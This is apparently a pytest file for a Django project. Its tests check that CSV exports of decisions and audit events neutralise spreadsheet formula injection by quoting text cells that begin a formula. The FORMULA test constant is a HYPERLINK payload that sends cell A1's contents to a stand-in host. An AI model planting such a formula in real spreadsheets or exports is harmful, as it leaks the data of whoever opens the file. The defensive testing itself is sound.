"""CSV exports cannot carry a spreadsheet formula (OWASP CSV injection): text cells that start
one get a leading quote; numbers are written as numbers."""

from __future__ import annotations

import csv
import json

import pytest

from oversight.export_lines import csv_row
from oversight.exports import export_create, export_path, export_run

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"details")'


def test_a_formula_in_a_decisions_text_is_written_as_text(integration, credit_version, applicant, auditor):
    body = {"model": "credit-risk", "subject_ref": FORMULA, "reference": "@SUM(1+1)", "features": applicant}
    response = integration.post("/api/v1/decisions/", data=json.dumps(body), content_type="application/json")
    assert response.status_code == 201
    export = export_create(user=auditor, kind="decisions", fmt="csv", mode="file", filters={})
    export = export_run(export_id=export.pk)
    with open(export_path(export), newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["subject_ref"] == "'" + FORMULA
    assert row["reference"] == "'@SUM(1+1)"
    assert row["score"] == str(response.json()["score"])  # a number: never quoted


def test_a_formula_in_an_event_is_written_as_text(auditor):
    from audit.models import Action
    from audit.services import Actor, audit_record

    audit_record(
        actor=Actor.system("-2+3"), action=Action.DECISION_RECORDED, object_type="decision", object_id="+1"
    )
    export = export_run(
        export_id=export_create(user=auditor, kind="events", fmt="csv", mode="file", filters={}).pk
    )
    with open(export_path(export), newline="") as handle:
        rows = [r for r in csv.DictReader(handle) if r["object_id"] == "'+1"]
    assert [r["actor_id"] for r in rows] == ["'-2+3"]


def test_only_text_cells_that_start_a_formula_are_changed():
    cells = [-0.5, 3, None, "-0.5", "=1+1", "+1", "@A1", "\tx", "\rx", "a=b", "", "ok"]
    assert csv_row(cells) == [-0.5, 3, None, "'-0.5", "'=1+1", "'+1", "'@A1", "'\tx", "'\rx", "a=b", "", "ok"]
